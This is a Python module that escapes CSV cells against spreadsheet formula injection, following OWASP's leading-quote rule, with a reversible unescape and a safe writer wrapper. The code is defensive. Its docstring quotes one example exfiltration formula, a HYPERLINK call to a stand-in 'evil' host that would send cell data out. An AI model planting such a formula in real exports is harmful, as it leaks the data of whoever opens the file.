"""Spreadsheet-safe CSV cells: the one place every CSV the product writes neutralizes formulas.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and some treat a
leading tab or carriage return the same way) as a formula: a consent source or user agent
like ``=HYPERLINK("http://evil/?"&A1)`` would leak data or run when an export is opened.
Following OWASP's CSV-injection rule, such a cell is written with a single quote ``'``
in front.  So that the escaping can be undone exactly (``mailer consent verify --file``
must see the bytes that were hashed), a cell that already starts with ``'`` gets one
too: :func:`unescape` strips exactly one leading quote, :func:`escape` adds it.

The scheme's name, :data:`ESCAPING`, goes into files that announce their escaping (the
consent export's begin record).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import IO, Any

#: Name of this escaping scheme, as recorded in a file's header/begin record.
ESCAPING = "owasp-leading-quote"
#: First characters that make a spreadsheet treat a cell as a formula (OWASP), plus the quote itself.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def escape(value: Any) -> Any:
    """The cell as written: strings starting with a formula trigger or a quote get a leading quote."""
    if isinstance(value, str) and value and (value[0] in FORMULA_TRIGGERS or value[0] == QUOTE):
        return QUOTE + value
    return value


def unescape(value: str) -> str:
    """The original of a cell :func:`escape` wrote."""
    return value[1:] if value.startswith(QUOTE) else value


def row(values: Iterable[Any]) -> list:
    return [escape(v) for v in values]


class SafeWriter:
    """A ``csv.writer`` whose every cell goes through :func:`escape`."""

    def __init__(self, out: IO[str], **kwargs):
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, values: Iterable[Any]) -> Any:
        return self._writer.writerow(row(values))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for values in rows:
            self.writerow(values)


def writer(out: IO[str], **kwargs) -> SafeWriter:
    """Use instead of ``csv.writer`` for any CSV a person may open in a spreadsheet."""
    return SafeWriter(out, **kwargs)
